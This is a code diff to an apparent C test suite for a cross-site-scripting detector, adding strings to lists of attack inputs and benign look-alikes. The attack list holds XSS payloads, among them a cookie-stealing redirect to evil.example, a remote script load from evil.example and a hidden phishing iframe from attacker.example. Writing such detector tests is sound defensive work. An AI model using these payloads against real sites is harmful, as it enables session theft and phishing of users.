@@ -39,8 +39,13 @@ static const char *const attacks[] = {
 	"'-confirm`1`-'",
 	"\";document.location='http://evil.example/?c='+document.cookie;//",
 	"prompt(1)",
+	"alert(document.domain)//",
 	"x:expression(alert(1))",
 	"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>",
+	"';window.onerror=alert;throw 1;//",
+	"hi <iframe src=//attacker.example/phish width=0 height=0></iframe>",
+	"<script src=\"/api/jsonp?callback=alert(1)//\"></script>",
+	"<script src=\"//evil.example/x.js\"></script>",
 };
 
 static const char *const benign[] = {
@@ -61,6 +66,11 @@ static const char *const benign[] = {
 	"<on monday> we meet",
 	"Don't open (the box)",
 	"Hello {{ user.name }}",
+	"<code>&lt;script&gt;</code> tags are escaped",
+	"eval() is evil in JS",
+	"-  <script src=\"/static/js/app.js\"></script>\n+  <script src=\"/static/js/app.3f9a2c.js\" defer></script>",
+	"<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid></xml>",
+	"window.onload = init;",
 	"",
 };
 
